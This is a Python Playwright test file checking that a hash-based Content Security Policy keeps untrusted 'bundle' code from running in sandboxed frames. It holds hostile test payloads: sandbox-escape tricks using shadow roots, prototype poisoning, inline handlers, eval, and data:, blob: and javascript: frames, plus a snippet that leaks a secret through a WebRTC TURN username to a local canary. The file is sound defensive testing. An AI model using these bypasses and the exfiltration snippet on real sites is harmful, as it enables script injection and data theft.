"""Only the host's script runs in a surface, and in every frame it creates (S3, U6; issue 13).

The surface CSP admits one script by its hash: the host's guard and bridge, then the bundle's
js, as one text (docs/security.md). Each bundle here tries to get a fresh realm that runs
script of its own, the way surfaces undid the bridge's old guard (a frame in a closed or a
declarative shadow root, Element.prototype.remove overridden, NodeList iteration poisoned),
or to run script the hash does not cover (inline handlers, <script> in html, eval, timers with
strings, data:, blob: and javascript: frames, a frame with its own relaxed CSP); from any
script it gets, it sends WebRTC to the UDP canary with a secret in the TURN username. Asserted:
the code never ran (no probe from it), 0 datagrams and 0 requests at the canary, and the agent
hears a csp_violation. Controls: the same bundles in the host's frames built with
script-src 'unsafe-inline' instead of the hash run their code and reach the canary.
"""

from __future__ import annotations

import html
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect

from .canary import Canary, CanaryServer
from .containment import (
    OFF_HASH,
    Lab,
    Seen,
    control_page,
    filled,
    lab_session,
    refusals,
    shell_documents,
    without,
)
from .hostile import instance_of
from .jupyter import JupyterServer

# Code that must never run: says so, then WebRTC to the canary with a secret in the username.
CHILD = (
    "console.log('PROBE ' + JSON.stringify(['{{INSTANCE}}', 'ran', 'WHERE']));"
    "try { const pc = new RTCPeerConnection({iceServers: ["
    "{urls: 'stun:127.0.0.1:{{STUN_PORT}}'}, "
    "{urls: 'turn:127.0.0.1:{{STUN_PORT}}?transport=udp', username: 'TOPSECRET-{{INSTANCE}}', "
    "credential: 'x'}]}); pc.createDataChannel('x'); "
    "pc.createOffer().then((o) => pc.setLocalDescription(o)); } "
    "catch (e) { console.log('PROBE ' + "
    "JSON.stringify(['{{INSTANCE}}', 'rtc-WHERE', String(e)])); }"
)


def child(where: str) -> str:
    return CHILD.replace("WHERE", where)


def srcdoc_attr(where: str, head: str = "") -> str:
    """An iframe srcdoc attribute value (HTML-escaped) whose document runs ``child(where)``."""
    return html.escape(f"{head}<script>{child(where)}</script>", quote=True)


def js_frame(where: str, container: str) -> str:
    """Bundle js: a frame whose srcdoc runs ``child(where)``, put into ``container``."""
    return (
        "const f = document.createElement('iframe');"
        f"f.srcdoc = '<script>' + {child(where)!r} + '<' + '/script>';"
        f"{container}.append(f);"
    )


# A nested document that asks for more: the policy it inherits applies on top of its own.
RELAXED = "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">"

BUNDLES: list[dict[str, Any]] = [
    {
        "id": "realm-closed-shadow",
        "html": "<p>closed shadow root</p>",
        "css": "",
        "js": "const root = document.body.appendChild(document.createElement('div'))"
        ".attachShadow({mode: 'closed'});" + js_frame("closed-shadow", "root"),
    },
    {
        "id": "realm-declarative-shadow",
        "html": "<div><template shadowrootmode='closed'>"
        f'<iframe srcdoc="{srcdoc_attr("declarative-shadow")}"></iframe></template></div>',
        "css": "",
        "js": "",
    },
    {
        "id": "realm-remove-overridden",
        "html": "<p>remove overridden</p>",
        "css": "",
        "js": "Element.prototype.remove = function () {};"
        "Node.prototype.removeChild = function (n) { return n; };"
        + js_frame("remove-overridden", "document.body"),
    },
    {
        "id": "realm-nodelist-poisoned",
        "html": "<p>NodeList poisoned</p>",
        "css": "",
        "js": "NodeList.prototype[Symbol.iterator] = function* () {};"
        "NodeList.prototype.forEach = function () {};"
        "Array.prototype[Symbol.iterator] = function* () {};"
        + js_frame("nodelist-poisoned", "document.body"),
    },
    {
        "id": "scripts-not-hashed",
        "html": (
            f"<script>{child('html-script')}</script>"
            f'<img src="data:," onerror="{html.escape(child("onerror"), quote=True)}">'
            f'<svg onload="{html.escape(child("svg-onload"), quote=True)}"></svg>'
            f'<iframe srcdoc="{srcdoc_attr("relaxed-csp", head=RELAXED)}"></iframe>'
            f'<iframe src="{html.escape("data:text/html,<script>" + child("data-url"))}">'
            "</iframe>"
            f'<iframe src="javascript:{html.escape(child("javascript-url"), quote=True)}">'
            "</iframe>"
            f'<a id=js href="javascript:{html.escape(child("javascript-link"), quote=True)}">'
            "go</a>"
        ),
        "css": "",
        "js": (
            f"try {{ eval({child('eval')!r}); }} catch (e) {{ probe('eval', e.name); }}\n"
            f"try {{ new Function({child('function')!r})(); }} "
            "catch (e) { probe('function', e.name); }\n"
            f"setTimeout({child('timer-string')!r}, 0);\n"
            "const s = document.createElement('script');"
            f"s.textContent = {child('dynamic-script')!r}; document.body.append(s);\n"
            "const b = new Blob(['<script>' + "
            f"{child('blob-url')!r} + '<' + '/script>'], {{type: 'text/html'}});"
            "const bf = document.createElement('iframe'); bf.src = URL.createObjectURL(b);"
            "document.body.append(bf);\n"
            "document.getElementById('js').click();\n"
        ),
    },
    {
        # The one script itself, copied into a nested frame, matches the hash and runs there:
        # which is why guard and bundle are one text. The copy runs the guard first, so the
        # bundle's code finds no WebRTC in the nested frame either.
        "id": "script-copied-into-a-frame",
        "html": "",
        "css": "",
        "js": (
            "if (parent.parent === top) {\n"
            "  const own = document.scripts[document.scripts.length - 1].textContent;\n"
            "  const f = document.createElement('iframe');\n"
            "  f.srcdoc = '<script>' + own + '<' + '/script>';\n"
            "  document.documentElement.append(f);\n"
            "  probe('surface', 'ran');\n"
            "} else {\n"
            "  console.log('PROBE ' + JSON.stringify(['{{INSTANCE}}', 'copy-ran', "
            "typeof RTCPeerConnection]));\n" + child("copy") + "\n}\n"
        ),
    },
]
# Every bundle's js says it ran to its end (so an attack that broke itself does not pass).
for _bundle in BUNDLES:
    _bundle["js"] += "\nprobe('bundle', 'ran');\n"
# What ran where each bundle's code is contained (the bundle's own js is the host's script).
RUNS_CONTAINED = {
    "realm-closed-shadow": {"bundle"},
    "realm-declarative-shadow": {"bundle"},
    "realm-remove-overridden": {"bundle"},
    "realm-nodelist-poisoned": {"bundle"},
    "scripts-not-hashed": {"bundle", "eval", "function"},
    "script-copied-into-a-frame": {"bundle", "surface", "copy-ran", "ran", "rtc-copy"},
}


# The bridge and the bundle's js are one script: a js that does not parse stops both.
BROKEN = {"id": "js-does-not-parse", "html": "<p>broken</p>", "css": "", "js": "const = ;"}


@pytest.fixture(scope="module")
def canary() -> Iterator[Canary]:
    server = CanaryServer()
    yield server.canary
    server.stop()


@pytest.fixture(scope="module")
def lab(browser: Browser, jupyter: JupyterServer, canary: Canary) -> Iterator[Lab]:
    yield from lab_session(browser, jupyter, canary, [*BUNDLES, BROKEN], "containment-scripts")


@pytest.mark.parametrize("bundle_id", [b["id"] for b in BUNDLES])
def test_no_script_but_the_hosts_runs_in_any_frame(lab: Lab, bundle_id: str) -> None:
    """S3, U6: a fresh realm (a frame in a closed or declarative shadow root, with remove and
    NodeList iteration poisoned), inline handlers, <script> in html, eval, string timers,
    data:/blob:/javascript: frames, a frame with a relaxed CSP: none runs code, no datagram
    or request reaches the canary, and what the surface's own document blocked reaches the agent
    as csp_violation (S3; a nested frame's violations stay in that frame). The one script
    copied into a frame runs there with its guard first: WebRTC is gone in it too."""
    inst = instance_of(bundle_id)
    udp, http = len(lab.canary.datagrams), len(lab.canary.requests)
    since = lab.open(bundle_id)
    try:
        lab.page.wait_for_timeout(2000)  # timers, frames loading, ICE gathering
        report = lab.settled(since)
        probes = lab.seen.of(inst)
        ran = {key for key in probes if key != "uncaught"}
        assert ran == RUNS_CONTAINED[bundle_id], f"code ran: {probes}"
        if bundle_id == "script-copied-into-a-frame":
            assert probes["copy-ran"] == "undefined", probes  # the guard ran first in the copy
            assert probes["rtc-copy"].startswith("TypeError"), probes
        if bundle_id == "scripts-not-hashed":
            assert probes["eval"] == probes["function"] == "EvalError", probes
        assert lab.canary.datagrams[udp:] == [], "WebRTC reached the UDP canary"
        assert lab.canary.requests[http:] == [], "a request reached the canary"
        if bundle_id == "scripts-not-hashed":  # a nested frame's violations stay in that frame
            assert ("csp_violation", "S3") in refusals(report, inst), report["refused"]
        assert not any(e["secret"] for e in report["accepted"]), report["accepted"]
    finally:
        lab.close(bundle_id)


@pytest.fixture(scope="module")
def controls(lab: Lab) -> dict[str, str]:
    """The same bundles in the host's frames, but with script-src 'unsafe-inline'."""
    docs = shell_documents([filled(lab, b) for b in BUNDLES])
    return {b["id"]: without(doc, OFF_HASH) for b, doc in zip(BUNDLES, docs, strict=True)}


# What a control must show: the escaped code ran (and, for the realms, WebRTC left).
ESCAPES = {
    "realm-closed-shadow": {"closed-shadow"},
    "realm-declarative-shadow": {"declarative-shadow"},
    "realm-remove-overridden": {"remove-overridden"},
    "realm-nodelist-poisoned": {"nodelist-poisoned"},
    "scripts-not-hashed": {"html-script", "onerror", "svg-onload", "relaxed-csp", "dynamic-script"},
}


@pytest.mark.parametrize("bundle_id", sorted(ESCAPES))
def test_control_without_the_hash_the_same_code_runs(
    lab: Lab, controls: dict[str, str], jupyter: JupyterServer, bundle_id: str
) -> None:
    """Control for the detectors above: under script-src 'unsafe-inline' (S3's baseline) the
    same bundles run their code in a fresh realm, and that realm's WebRTC reaches the UDP
    canary (the old bridge's deletions do not apply there)."""
    context: BrowserContext = lab.page.context
    seen = Seen()
    udp = len(lab.canary.datagrams)
    page: Page = control_page(context, jupyter, seen, controls[bundle_id])
    try:
        inst = instance_of(bundle_id)
        page.wait_for_timeout(2500)  # the frames load and run on their own
        ran = {value for i, key, value in seen.probes if i == inst and key == "ran"}
        assert ESCAPES[bundle_id] <= ran, f"control: expected {ESCAPES[bundle_id]} to run: {ran}"
        if bundle_id.startswith("realm-"):
            assert len(lab.canary.datagrams) > udp, "control: no datagram reached the canary"
    finally:
        page.close()


def test_a_bundle_whose_js_does_not_parse_is_reported(lab: Lab) -> None:
    """U4, U6: a js that does not parse leaves the surface without its bridge (one script); the
    shell notices the silence after the frame loads, the card says so and the agent hears
    invalid (U4) instead of a surface that silently never starts."""
    inst = instance_of("js-does-not-parse")
    since = lab.open("js-does-not-parse")
    try:
        notice = lab.card(inst).locator(".lineup-blocked[data-what='silent']")
        expect(notice).to_contain_text("did not start")
        assert ("invalid", "U4") in refusals(lab.settled(since), inst)
    finally:
        lab.close("js-does-not-parse")
